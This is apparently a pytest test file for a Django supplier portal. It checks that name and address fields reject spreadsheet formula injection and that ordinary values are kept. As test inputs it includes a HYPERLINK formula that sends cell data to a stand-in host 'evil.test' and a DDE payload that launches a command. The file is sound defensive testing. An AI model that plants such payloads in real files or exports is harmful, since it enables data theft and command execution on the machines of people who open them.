"""Names and places of a profile refuse what a spreadsheet would run as a formula (=, +, -, @ at
the start): they reach the dashboard's CSVs and the staff's spreadsheets. The CSVs neutralise such
cells anyway (tests/portal/test_dashboard_csv_formulas.py); these fields have no use for them."""

import pytest

from suppliers.models import Supplier

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Click me")'
MESSAGE = "This cannot begin with =, +, -, @, a tab or a line break"
MESSAGE_ZH = "不能以 =、+、-、@、制表符或换行开头"


def section_data(client, section) -> dict:
    page = client.get(f"/supplier/{section}/")
    data = {k: ("" if v is None else v) for k, v in page.context["form"].initial.items()}
    return {k: v for k, v in data.items() if not isinstance(v, list)} | {"country": "CN"}


@pytest.mark.parametrize(
    ("section", "field", "value"),
    [
        ("contacts", "city", HYPERLINK),
        ("contacts", "city", "+86"),
        ("contacts", "city", "-"),
        ("contacts", "city", "@SUM(A1:A9)"),
        ("contacts", "address", "=1+1"),
        ("contacts", "contact_name", "=cmd|' /C calc'!A0"),
        ("contacts", "contact_role", "+Director"),
        ("identity", "legal_name", "=HYPERLINK(1)"),
        ("identity", "legal_name_local", "=示例"),
        ("identity", "trading_name", "@Home"),
    ],
)
def test_a_name_or_place_that_could_run_as_a_formula_is_refused(
    client, company, section, field, value
):
    client.force_login(company.owner)
    data = section_data(client, section) | {field: value}
    before = Supplier.objects.values().get(pk=company.pk)

    response = client.post(f"/supplier/{section}/", data)

    assert response.status_code == 200
    assert response.context["form"].errors[field] == [
        f"{MESSAGE}: spreadsheet programs would run it as a formula."
    ]
    assert Supplier.objects.values().get(pk=company.pk) == before


def test_the_refusal_is_in_chinese_for_a_chinese_reader(client, company):
    company.owner.language = "zh-hans"
    company.owner.save()
    client.force_login(company.owner)
    data = section_data(client, "contacts") | {"city": HYPERLINK}

    response = client.post("/supplier/contacts/", data)

    assert MESSAGE_ZH in response.context["form"].errors["city"][0]


def test_ordinary_names_and_places_are_kept(client, company):
    client.force_login(company.owner)
    data = section_data(client, "contacts") | {
        "city": "A-Town",
        "phone": "+86 755 1234 5678",
    }

    response = client.post("/supplier/contacts/", data)

    assert response.status_code == 302
    company.refresh_from_db()
    assert (company.province, company.city, company.phone) == (
        "44",
        "A-Town",
        "+86 755 1234 5678",
    )


def test_the_start_of_a_profile_refuses_it_too(client, supplier):
    client.force_login(supplier)

    response = client.post("/supplier/start/", {"legal_name": "=1+1", "country": "CN"})

    assert response.status_code == 200
    assert MESSAGE in response.context["form"].errors["legal_name"][0]
    assert not Supplier.objects.filter(owner=supplier).exists()
